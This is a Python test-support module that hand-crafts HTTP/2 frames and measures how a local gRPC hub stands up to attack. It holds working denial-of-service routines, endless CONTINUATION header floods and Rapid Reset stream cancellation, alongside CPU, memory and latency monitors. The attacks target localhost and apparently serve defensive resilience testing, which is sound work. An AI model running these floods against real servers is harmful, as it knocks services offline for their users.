"""HTTP/2 as those speak it who mean harm: frames by hand, and what they cost a hub."""

import contextlib
import os
import pathlib
import select
import socket
import ssl
import struct
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET_HUB = "/igf.liaison.v1.DirectoryService/GetHub"
PUBLISH = "/igf.liaison.v1.PublishService/Publish"
PUBLISH_STREAM = "/igf.liaison.v1.PublishService/PublishStream"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def _text(text):
    data = text.encode()
    assert len(data) < 127
    return bytes([len(data)]) + data


def _field(name, value):
    return b"\x00" + _text(name) + _text(value)


def headers(path=GET_HUB, scheme="https", more=()):
    block = bytes([0x83, 0x87 if scheme == "https" else 0x86]) + b"\x04" + _text(path)
    block += b"\x01" + _text("localhost")
    for name, value in (("content-type", "application/grpc"), ("te", "trailers"), *more):
        block += _field(name, value)
    return block


def message(data=b""):
    return b"\x00" + struct.pack(">I", len(data)) + data


class Peer:
    """A connection that has said hello. `broken` once the hub has hung up."""

    def __init__(self, port, context=None, timeout_s=20):
        raw = socket.create_connection(("127.0.0.1", port), timeout_s)
        self.socket = context.wrap_socket(raw, server_hostname="localhost") if context else raw
        self.socket.settimeout(timeout_s)
        self._timeout_s = timeout_s
        self._reads = False
        self.sent = 0
        self.broken = not self.send(PREFACE + frame(SETTINGS, 0, 0))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def send(self, data):
        """False where the hub has hung up, or takes nothing more."""
        try:
            if self._reads:
                self._send_while_taking(data)
            else:
                self.socket.sendall(data)
            self.sent += len(data)
            return True
        except (OSError, ssl.SSLError):
            self.broken = True
            return False

    def ended(self, timeout_s=10):
        """Whether the hub hangs up within so long."""
        end = time.monotonic() + timeout_s
        self.socket.settimeout(0.5)
        while time.monotonic() < end:
            try:
                if not self.socket.recv(65536):
                    return True
            except (socket.timeout, ssl.SSLWantReadError):
                continue
            except (OSError, ssl.SSLError):
                return True
        return False

    def read_by_the_way(self):
        """From now on `send` takes what the hub sends, so that the hub need not wait for us."""
        self._reads = True
        self.socket.setblocking(False)

    def _send_while_taking(self, data):
        # By one thread: Python 3.11 crashes where two use one TLS connection.
        left, end = memoryview(data), time.monotonic() + self._timeout_s
        while left:
            waits = not self._take()
            with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                left, waits = left[self.socket.send(left):], False
            if waits:
                select.select([self.socket], [self.socket], [], 1)
                if time.monotonic() > end:
                    raise TimeoutError("the hub takes nothing more")

    def _take(self):
        """False where there is nothing."""
        with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            if not self.socket.recv(65536):
                raise ConnectionResetError("the hub has hung up")
            return True
        return False


def cpu_s(pid):
    fields = pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def rss_mib(pid):
    for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS"):
            return int(line.split()[1]) / 1024
    return 0


def comes_to_rest(pid, patience_s=60):
    """Waits until what came in has been worked off."""
    end = time.monotonic() + patience_s
    before = cpu_s(pid)
    while time.monotonic() < end:
        time.sleep(0.5)
        now = cpu_s(pid)
        if now - before < 0.1:
            return
        before = now


def open_files(pid):
    return len(os.listdir(f"/proc/{pid}/fd"))


def ports_of(pid):
    """The local ports of a process's connections by TCP."""
    mine = set()
    for file in pathlib.Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(OSError):
            mine.add(os.readlink(file))
    ports = set()
    for table in ("tcp", "tcp6"):
        for line in pathlib.Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if f"socket:[{fields[9]}]" in mine:
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return ports


class Watch:
    """What an attack costs: CPU seconds, memory before, at its peak and after, and how long a call
    of somebody well-behaved takes meanwhile."""

    def __init__(self, pid, call=None):
        self.pid = pid
        self.call = call
        self.times = []
        self.failures = []
        self._stop = threading.Event()

    def __enter__(self):
        self.cpu = cpu_s(self.pid)
        self.before = self.peak = rss_mib(self.pid)
        self.began = time.monotonic()
        self._threads = [threading.Thread(target=self._look)]
        if self.call:
            self._threads.append(threading.Thread(target=self._behave))
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self._stop.set()
        for thread in self._threads:
            thread.join()
        self.seconds = time.monotonic() - self.began
        self.after = rss_mib(self.pid)
        self.cpu = cpu_s(self.pid) - self.cpu

    def _look(self):
        while not self._stop.wait(0.02):
            self.peak = max(self.peak, rss_mib(self.pid))

    def _behave(self):
        while not self._stop.is_set():
            began = time.monotonic()
            try:
                self.call()
                self.times.append(time.monotonic() - began)
            except Exception as error:  # pylint: disable=broad-except
                self.failures.append(error)
            time.sleep(0.005)

    def p99_ms(self):
        return sorted(self.times)[int(len(self.times) * 0.99)] * 1000 if self.times else 0

    def __str__(self):
        return (f"{self.seconds:.1f} s, CPU {self.cpu:.2f} s, RSS {self.before:.0f} -> "
                f"{self.peak:.0f} -> {self.after:.0f} MiB, well-behaved: {len(self.times)} calls, "
                f"p99 {self.p99_ms():.1f} ms, {len(self.failures)} failed")


def endless_header(peer, size, piece=16000):
    """A header that does not end. The bytes that the hub took before it hung up."""
    block = headers() + b"\x00" + _text("x") + b"\x7f" + b"\x81\xff\xff\x7f"
    peer.send(frame(HEADERS, 0, 1, block))
    sent = 0
    burst = frame(CONTINUATION, 0, 1, b"a" * piece) * 8
    while sent < size and peer.send(burst):
        sent += len(burst)
    return sent


def endless_header_in_crumbs(peer, beginning=512 << 10, size=16 << 20):
    """The same, but after its beginning a byte at a time: each costs as much as all before it."""
    endless_header(peer, beginning)
    burst = frame(CONTINUATION, 0, 1, b"a") * 1000
    while peer.sent < size and peer.send(burst):
        pass


def endless_header_behind_uploads(peer, size, uploads=31):
    """The same, on a connection with messages under way of which no more ever comes."""
    for stream in range(1, 2 * uploads, 2):
        peer.send(frame(HEADERS, END_HEADERS, stream, headers(PUBLISH)) +
                  frame(DATA, 0, stream, b"\x00" + struct.pack(">I", 3 << 20)))
    block = headers() + b"\x00" + _text("x") + b"\x7f" + b"\x81\xff\xff\x7f"
    peer.send(frame(HEADERS, 0, 2 * uploads + 1, block))
    burst = frame(CONTINUATION, 0, 2 * uploads + 1, b"a" * 16000) * 8
    while peer.sent < size and peer.send(burst):
        pass


def rapid_reset(peer, count, path=GET_HUB, begin=1):
    """Calls that are taken back at once. How many were sent before the hub hung up."""
    block = headers(path)
    sent = 0
    while sent < count:
        piece = b"".join(
            frame(HEADERS, END_HEADERS, begin + 2 * (sent + i), block) +
            frame(RST_STREAM, 0, begin + 2 * (sent + i), b"\0\0\0\x08") for i in range(100))
        if not peer.send(piece):
            break
        sent += 100
    return sent


def whole_calls_reset(peer, count, begin=1):
    """The same with the request's message, so that the hub begins each of them."""
    block = headers()
    sent = 0
    while sent < count:
        piece = b"".join(
            frame(HEADERS, END_HEADERS, begin + 2 * (sent + i), block) +
            frame(DATA, END_STREAM, begin + 2 * (sent + i), message()) +
            frame(RST_STREAM, 0, begin + 2 * (sent + i), b"\0\0\0\x08") for i in range(100))
        if not peer.send(piece):
            break
        sent += 100
    return sent
